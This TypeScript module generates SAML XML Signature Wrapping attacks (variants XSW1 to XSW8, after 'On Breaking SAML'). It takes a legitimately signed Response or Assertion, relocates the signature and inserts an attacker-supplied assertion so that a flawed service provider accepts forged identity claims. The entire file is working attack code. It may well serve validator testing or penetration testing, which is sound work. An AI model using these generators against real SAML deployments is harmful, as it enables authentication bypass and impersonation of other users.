/**
 * XML Signature Wrapping variants (XSW1–XSW8, after Somorovsky et al., "On Breaking SAML",
 * USENIX Security 2012) built from a legitimately signed document and an attacker's assertion.
 */
const SIG = /<ds:Signature[\s\S]*?<\/ds:Signature>/;
export const signatureOf = (xml: string) => (SIG.exec(xml) as RegExpExecArray)[0];
export const withoutSignature = (xml: string) => xml.replace(SIG, '');
const intoObject = (sig: string, content: string) => sig.replace('</ds:Signature>', `<ds:Object>${content}</ds:Object></ds:Signature>`);
const responseParts = (response: string) => {
  const open = (/^<samlp:Response[^>]*>/.exec(response) as RegExpExecArray)[0];
  const issuer = (/<saml:Issuer>[^<]*<\/saml:Issuer>/.exec(response) as RegExpExecArray)[0];
  const status = (/<samlp:Status>[\s\S]*?<\/samlp:Status>/.exec(response) as RegExpExecArray)[0];
  return { open, issuer, status };
};
const assertionOf = (xml: string) => (/<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml) as RegExpExecArray)[0];

/** XSW1/XSW2 target a signed Response; `signedResponse` has the signature on the Response. */
export function responseWrapping(variant: 1 | 2, signedResponse: string, evilAssertion: string): string {
  const { open, issuer, status } = responseParts(signedResponse);
  const original = withoutSignature(signedResponse);
  const evilOpen = open.replace(/ID="[^"]+"/, 'ID="_evil_response"');
  const sig = signatureOf(signedResponse);
  const wrapped = variant === 1 ? intoObject(sig, original) : `${sig}${original}`;
  return `${evilOpen}${issuer}${wrapped}${status}${evilAssertion}</samlp:Response>`;
}

/** XSW3–XSW8 target a signed Assertion inside `response` (unsigned envelope). */
export function assertionWrapping(variant: 3 | 4 | 5 | 6 | 7 | 8, response: string, evilAssertion: string): string {
  const { open, issuer, status } = responseParts(response);
  const signed = assertionOf(response);
  const sig = signatureOf(signed);
  const bare = withoutSignature(signed);
  const evilWithSig = (inner: string) => evilAssertion.replace(/(<saml:Issuer>[^<]*<\/saml:Issuer>)/, `$1${inner}`);
  const body = {
    3: `${evilAssertion}${signed}`,
    4: evilAssertion.replace('</saml:Assertion>', `${signed}</saml:Assertion>`),
    5: `${evilWithSig(sig)}${bare}`,
    6: evilWithSig(intoObject(sig, signed)),
    7: `<samlp:Extensions>${signed}</samlp:Extensions>${evilAssertion}`,
    8: evilWithSig(intoObject(sig, bare)).replace(/ID="[^"]+"/, 'ID="_evil_assertion_8"'),
  }[variant];
  return `${open}${issuer}${status}${body}</samlp:Response>`;
}
